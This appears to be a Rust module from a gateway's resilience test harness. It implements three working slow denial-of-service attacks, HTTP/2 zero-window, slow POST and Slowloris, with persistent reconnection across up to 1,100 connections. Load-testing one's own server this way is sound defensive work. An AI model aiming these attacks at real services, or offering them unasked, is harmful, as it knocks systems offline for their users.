//! The attacks, each from 127.0.0.1 and each persistent: a connection the
//! gateway closes (or answers) is opened again a second later, for as long
//! as the attack runs.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

#[derive(Clone, Copy, Debug)]
pub enum Attack {
    /// 12 HTTP/2 connections × 100 streams asking for 1 MiB with a zero
    /// stream window: nothing can be sent to them.
    H2ZeroWindow,
    /// 1,100 connections announcing a 1 MB body and sending 1 byte/s.
    SlowPost,
    /// 1,100 connections sending a request head one header line per second.
    Slowloris,
}

impl Attack {
    pub const ALL: [Attack; 3] = [Attack::H2ZeroWindow, Attack::SlowPost, Attack::Slowloris];

    pub fn name(self) -> &'static str {
        match self {
            Attack::H2ZeroWindow => "h2-zero-window",
            Attack::SlowPost => "slow-post",
            Attack::Slowloris => "slowloris",
        }
    }
}

/// What the attacker saw: connections opened, and closed by the gateway.
#[derive(Default)]
pub struct Tally {
    pub opened: AtomicU64,
    pub closed: AtomicU64,
}

pub fn launch(attack: Attack, gateway: SocketAddr, stop: Arc<AtomicBool>, tally: Arc<Tally>) {
    let (connections, each): (usize, OneConnection) = match attack {
        Attack::H2ZeroWindow => (12, h2_zero_window),
        Attack::SlowPost => (1_100, slow_post),
        Attack::Slowloris => (1_100, slowloris),
    };
    for i in 0..connections {
        let (stop, tally) = (Arc::clone(&stop), Arc::clone(&tally));
        tokio::spawn(async move {
            // Spread the opening over the first second.
            tokio::time::sleep(Duration::from_micros(900 * i as u64)).await;
            while !stop.load(Ordering::Relaxed) {
                let Ok(stream) = TcpStream::connect(gateway).await else {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    continue;
                };
                tally.opened.fetch_add(1, Ordering::Relaxed);
                let closed = each(stream, Arc::clone(&stop));
                if closed.await {
                    tally.closed.fetch_add(1, Ordering::Relaxed);
                    // Like slowhttptest, keep the connection count up, but
                    // at a bounded rate: at most one new connection per
                    // second per slot, so the attack stays slow rather
                    // than turning into a connection flood.
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            }
        });
    }
}

/// Resolves true when the gateway closed the connection, false when the
/// attack stopped.
type ConnFuture = std::pin::Pin<Box<dyn std::future::Future<Output = bool> + Send>>;
type OneConnection = fn(TcpStream, Arc<AtomicBool>) -> ConnFuture;

/// One frame: 9-byte header and payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

fn h2_zero_window(mut stream: TcpStream, stop: Arc<AtomicBool>) -> ConnFuture {
    Box::pin(async move {
        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        // SETTINGS_INITIAL_WINDOW_SIZE = 0.
        out.extend(frame(0x4, 0, 0, &[0, 4, 0, 0, 0, 0]));
        // GET http://attack/big: :method GET, :scheme http (indexed),
        // :path and :authority as literals with indexed names.
        let mut block = vec![0x82, 0x86, 0x04, 4];
        block.extend_from_slice(b"/big");
        block.extend_from_slice(&[0x01, 6]);
        block.extend_from_slice(b"attack");
        for i in 0..100u32 {
            // END_STREAM | END_HEADERS.
            out.extend(frame(0x1, 0x5, 1 + 2 * i, &block));
        }
        if stream.write_all(&out).await.is_err() {
            return true;
        }
        // Read (and drop) whatever comes; acknowledge SETTINGS; never send
        // a WINDOW_UPDATE.
        let mut buf = Vec::new();
        let mut chunk = vec![0u8; 65536];
        loop {
            let read = tokio::time::timeout(Duration::from_millis(200), stream.read(&mut chunk));
            match read.await {
                Ok(Ok(0) | Err(_)) => return true,
                Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
                Err(_) if stop.load(Ordering::Relaxed) => return false,
                Err(_) => continue,
            }
            while buf.len() >= 9 {
                let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
                if buf.len() < 9 + len {
                    break;
                }
                if buf[3] == 0x4
                    && buf[4] & 1 == 0
                    && stream.write_all(&frame(0x4, 1, 0, &[])).await.is_err()
                {
                    return true;
                }
                buf.drain(..9 + len);
            }
        }
    })
}

/// Write `first`, then `each` once a second, until the gateway closes the
/// connection (or answers: the attacker then opens a new one).
async fn drip(mut stream: TcpStream, stop: Arc<AtomicBool>, first: &[u8], each: &[u8]) -> bool {
    if stream.write_all(first).await.is_err() {
        return true;
    }
    let mut tick = tokio::time::interval(Duration::from_secs(1));
    let mut chunk = [0u8; 4096];
    loop {
        tokio::select! {
            _ = tick.tick() => {
                if stop.load(Ordering::Relaxed) {
                    return false;
                }
                if stream.write_all(each).await.is_err() {
                    return true;
                }
            }
            read = stream.read(&mut chunk) => match read {
                Ok(0) | Err(_) => return true,
                // An answer (408, 429): this request is over.
                Ok(_) => return true,
            },
        }
    }
}

fn slow_post(stream: TcpStream, stop: Arc<AtomicBool>) -> ConnFuture {
    Box::pin(drip(
        stream,
        stop,
        b"POST /upload HTTP/1.1\r\nHost: attack\r\nContent-Length: 1000000\r\n\r\n",
        b"x",
    ))
}

fn slowloris(stream: TcpStream, stop: Arc<AtomicBool>) -> ConnFuture {
    Box::pin(drip(
        stream,
        stop,
        b"GET / HTTP/1.1\r\nHost: attack\r\n",
        b"X-Slow: 1\r\n",
    ))
}
